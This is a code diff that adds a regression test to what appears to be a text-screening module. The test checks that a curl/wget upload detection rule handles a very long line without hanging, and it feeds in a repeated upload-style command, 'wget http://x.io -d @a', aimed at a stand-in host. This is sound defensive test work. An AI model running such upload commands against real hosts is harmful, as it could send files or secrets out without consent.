@@ -1331,3 +1331,23 @@ def test_a_question_spelling_no_one_alerts_name_keeps_the_runbook_whole() -> Non
     ):
         [admitted] = gate(section_question=question).admit([whole]).admitted
         assert admitted == whole, question
+
+
+def test_a_long_hostile_line_is_read_in_bounded_time() -> None:
+    # A page an importer may write (documents up to 2 MB) as one line of "wget URL -d @a"
+    # repeated: the curl/wget upload rule scanned the rest of the line from every address,
+    # for every "wget", so 20 KB took 5 s of CPU and 200 KB many minutes (every card and
+    # investigation reading the page hung). Run apart, killed after 120 s: a hang guard.
+    import subprocess
+    import sys
+
+    code = (
+        "from investigator.gate import looks_like_instruction\n"
+        "text = 'wget http://x.io -d @a ' * 9000\n"
+        "print(looks_like_instruction(text, operational=True))\n"
+    )
+    done = subprocess.run(
+        [sys.executable, "-c", code], capture_output=True, text=True, timeout=120, check=False
+    )
+    assert done.returncode == 0, done.stderr
+    assert done.stdout.strip() == "None"
